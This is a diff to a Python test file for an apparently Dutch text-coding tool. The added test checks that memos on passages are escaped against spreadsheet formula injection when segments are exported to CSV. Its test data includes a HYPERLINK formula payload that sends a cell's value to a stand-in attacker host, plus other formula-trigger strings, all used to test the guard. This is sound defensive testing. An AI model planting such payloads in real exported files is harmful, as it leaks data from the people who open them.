@@ -16,6 +16,7 @@ from test_backends import write_study
 
 from codeer.analysis.segments import segment_rows
 from codeer.formulas import guard, guard_sql, unguard
+from codeer.model import Coder, Memo, Passage
 from codeer.store.database import open_database
 
 MEMOS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "'=al met apostrof", "-3", "@SUM(1)", "gewoon"]
@@ -124,6 +125,10 @@ def test_the_guard_in_sql_is_the_guard(db_url: str) -> None:
 
 def test_segments_are_written_guarded_as_every_table_is(coded: Path, project: Path, tmp_path: Path) -> None:
     db = open_database(f"sqlite:///{project / 'codeer.db'}")
+    with db.session() as session:  # anouk's memo on passage 1, in the passage_memo column
+        passage = session.scalar(select(Passage.id).where(Passage.number == 1))
+        anouk = session.scalar(select(Coder.id).where(Coder.name == "anouk"))
+        session.add(Memo(coder_id=anouk, passage_id=passage, text="=1+1 op de passage"))
     with db.read_session() as session:
         plain = [list(row) for row in segment_rows(session)]
     db.close()
@@ -133,8 +138,10 @@ def test_segments_are_written_guarded_as_every_table_is(coded: Path, project: Pa
     out = tmp_path / "segments.csv"
     assert run_cli(project, "export", "segments", "-o", str(out)).code == 0
     with out.open(encoding="utf-8", newline="") as handle:
-        written = list(csv.reader(handle))[1:]
-    assert written == as_text and {row[-2] for row in written} >= {"'" + MEMOS[0], "''=al met apostrof"}
+        header, *written = list(csv.reader(handle))
+    memos = {row[header.index("memo")] for row in written}
+    assert written == as_text and memos >= {"'" + MEMOS[0], "''=al met apostrof"}
+    assert "'=1+1 op de passage" in {row[header.index("passage_memo")] for row in written}
     book = tmp_path / "segments.xlsx"
     assert run_cli(project, "export", "segments", "-o", str(book)).code == 0
     cells = [list(row) for row in load_workbook(book).worksheets[0].iter_rows(values_only=True)][1:]
